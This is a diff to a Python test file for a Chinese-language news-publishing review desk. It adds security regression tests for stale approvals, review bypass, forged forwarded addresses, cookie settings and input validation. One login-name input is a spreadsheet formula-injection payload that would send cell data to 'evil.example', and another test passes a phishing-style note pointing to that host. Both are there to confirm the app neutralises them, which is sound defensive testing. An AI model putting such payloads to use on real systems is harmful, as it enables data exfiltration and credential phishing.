@@ -63,6 +63,13 @@ class Site:
         assert publisher.error == ""
 
 
+def seen(client: httpx.Client, post_id: str) -> dict[str, str]:
+    """The version of a post its desk page shows (what an approval is of)."""
+    found = re.search(r'name="version" value="([^"]+)"', client.get(f"/posts/{post_id}").text)
+    assert found is not None
+    return {"version": found[1], f"v-{post_id}": found[1]}
+
+
 def log_in(client: httpx.Client, name: str, password: str) -> httpx.Response:
     form = client.get("/login").text
     token = re.search(r'name="token" value="([^"]+)"', form)
@@ -144,7 +151,9 @@ def test_each_role_is_refused_what_it_may_not_do(site: Site) -> None:
     assert site.store.people.user("x") is None
     reviewer, token = site.login("reviewer")
     assert reviewer.get("/users").status_code == 403
-    answer = reviewer.post(f"/posts/{site.town}/approve", data={"csrf": token})
+    answer = reviewer.post(
+        f"/posts/{site.town}/approve", data={"csrf": token, **seen(reviewer, site.town)}
+    )
     assert answer.status_code == 303
     assert site.store.desk.decision(site.town).review == "approved"
 
@@ -238,7 +247,10 @@ def test_approving_on_the_queue_publishes_and_takedown_unpublishes(site: Site) -
     assert "镇里召开防汛会议" in queue and "rule 1: group 镇街" in queue
     assert "文旅局发布旅游线路" not in queue
     assert "镇里召开防汛会议" not in public_text(site.config)
-    answer = reviewer.post("/queue", data={"csrf": token, "ids": [site.town], "verdict": "approve"})
+    answer = reviewer.post(
+        "/queue",
+        data={"csrf": token, "ids": [site.town], "verdict": "approve", **seen(reviewer, site.town)},
+    )
     assert answer.status_code == 303
     site.published()
     assert "镇里召开防汛会议" in public_text(site.config)
@@ -258,7 +270,8 @@ def test_a_rejection_needs_a_reason(site: Site) -> None:
     assert answer.status_code == 400 and "reason" in answer.text
     answer = reviewer.post(
         "/queue",
-        data={"csrf": token, "ids": site.town, "verdict": "reject", "reason": "错别字"},
+        data={"csrf": token, "ids": site.town, "verdict": "reject", "reason": "错别字"}
+        | seen(reviewer, site.town),
     )
     assert answer.status_code == 303
     decision = site.store.desk.decision(site.town)
@@ -383,3 +396,138 @@ def test_an_admin_previews_and_saves_channels_yaml_and_the_live_site_waits(site:
     assert "+  - {slug: bumen, title: 部门动态" in json.loads(entry.after)["diff"]
     site.published()
     assert "部门动态" in (site.config.site_dir / "index.html").read_text(encoding="utf-8")
+
+
+# what a hostile review found ---------------------------------------------------------------
+
+
+def test_an_approval_is_of_the_version_the_reviewer_saw(site: Site) -> None:
+    reviewer, token = site.login("reviewer")
+    before = seen(reviewer, site.town)
+    editor, editor_token = site.login("editor")
+    edit = {"csrf": editor_token, "title": "镇里召开防汛工作会议", "summary": ""}
+    assert editor.post(f"/posts/{site.town}/edit", data=edit).status_code == 303
+    stale = reviewer.post(f"/posts/{site.town}/approve", data={"csrf": token, **before})
+    assert stale.status_code == 400 and "有改动" in stale.text
+    bulk = reviewer.post(
+        "/queue", data={"csrf": token, "ids": site.town, "verdict": "approve", **before}
+    )
+    assert bulk.status_code == 303
+    assert "未处理" in reviewer.get(bulk.headers["location"]).text
+    assert site.store.desk.decision(site.town).review == "waiting"
+    fresh = seen(reviewer, site.town)
+    answer = reviewer.post(f"/posts/{site.town}/approve", data={"csrf": token, **fresh})
+    assert answer.status_code == 303
+    site.published()
+    assert "镇里召开防汛工作会议" in public_text(site.config)
+    # an editor's edit after the approval is reviewed again
+    edit["title"] = "镇里开会"
+    assert editor.post(f"/posts/{site.town}/edit", data=edit).status_code == 303
+    site.published()
+    assert "镇里开会" not in public_text(site.config) and "镇里召开防汛" not in public_text(
+        site.config
+    )
+
+
+def test_an_editor_cannot_publish_a_waiting_post_by_moving_it(site: Site) -> None:
+    editor, token = site.login("editor")
+    for action, form in (
+        ("remove", {"channel": "zhenjie"}),
+        ("move", {"from": "zhenjie", "to": "bumen"}),
+    ):
+        answer = editor.post(f"/posts/{site.town}/{action}", data={"csrf": token, **form})
+        assert answer.status_code == 303
+        site.published()
+        assert "镇里召开防汛会议" not in public_text(site.config), action
+        assert site.store.desk.decision(site.town).review == "waiting"
+
+
+def test_an_editors_add_to_a_reviewed_channel_is_reviewed_not_waved_through(site: Site) -> None:
+    editor, token = site.login("editor")
+    answer = editor.post(f"/posts/{site.dept}/add", data={"csrf": token, "channel": "zhenjie"})
+    assert answer.status_code == 303
+    site.published()
+    assert "文旅局发布旅游线路" not in public_text(site.config)
+    assert site.store.desk.decision(site.dept).review == "waiting"
+    assert site.store.desk.entries(LogQuery(user="hub")) == []
+
+
+def test_forwarded_addresses_are_not_believed(site: Site) -> None:
+    with site.client() as client:
+        for n in range(4):
+            forged = {"x-forwarded-for": f"198.51.100.{n}"}
+            form = client.get("/login").text
+            token = re.search(r'name="token" value="([^"]+)"', form)
+            assert token is not None
+            data = {"token": token[1], "name": f"x{n}", "password": "wrong-password"}
+            client.post("/login", data=data, headers=forged)
+    addresses = {e.address for e in site.store.desk.entries(LogQuery(action="login-failed"))}
+    assert addresses == {"127.0.0.1"}
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(site: Site) -> None:
+    with site.client() as client:
+        log_in(client, '=HYPERLINK("http://evil.example/?"&A1,"x")', "wrong-password")
+    admin, _ = site.login("admin")
+    text = admin.get("/log.csv").text
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+
+
+def test_big_or_unmeasured_bodies_are_refused_unread(site: Site) -> None:
+    with site.client() as client:
+        big = client.post("/queue", content=b"x" * (3 * 1024 * 1024))
+        assert big.status_code == 413
+        request = client.build_request("POST", "/queue", content=iter([b"a=b"]))
+        assert client.send(request).status_code == 411  # chunked: no length
+
+
+def test_the_session_cookie_lasts_the_browser_session_and_notes_are_signed(site: Site) -> None:
+    with site.client() as client:
+        answer = log_in(client, "editor", PASSWORDS["editor"])
+        (cookie,) = [
+            c.lower() for c in answer.headers.get_list("set-cookie") if c.startswith("hub_desk=")
+        ]
+        assert "max-age" not in cookie and "expires" not in cookie and "httponly" in cookie
+        page = client.get("/queue", params={"done": "请到 http://evil.example 重新登录"})
+        assert "evil.example" not in page.text
+
+
+@pytest.mark.parametrize("name", ["hub", "shell:root", "admin\u200b", "a b", ""])
+def test_misleading_user_names_are_refused(site: Site, name: str) -> None:
+    admin, token = site.login("admin")
+    form = {
+        "csrf": token,
+        "what": "add",
+        "name": name,
+        "role": "admin",
+        "password": "long-password-9",
+    }
+    answer = admin.post("/users", data=form)
+    assert answer.status_code == 400
+    assert [u.name for u in site.store.people.users()] == sorted(PASSWORDS)
+
+
+@pytest.mark.parametrize(
+    ("path", "query"),
+    [
+        ("/queue", {"page": "\u00b2"}),
+        ("/log", {"since": "0001-01-01"}),
+        ("/log.csv", {"until": "9999-12-31"}),
+    ],
+)
+def test_odd_query_values_get_a_page_not_a_500(
+    site: Site, path: str, query: dict[str, str]
+) -> None:
+    admin, _ = site.login("admin")
+    assert admin.get(path, params=query).status_code == 200
+
+
+def test_dates_out_of_range_are_refused(site: Site) -> None:
+    editor, token = site.login("editor")
+    for action, form in (
+        ("pin", {"channel": "bumen", "until": "9999-12-31T23:59"}),
+        ("timing", {"show_at": "0001-01-01T00:00"}),
+    ):
+        answer = editor.post(f"/posts/{site.dept}/{action}", data={"csrf": token, **form})
+        assert answer.status_code == 400, action
+    assert editor.get(f"/posts/{site.dept}").status_code == 200
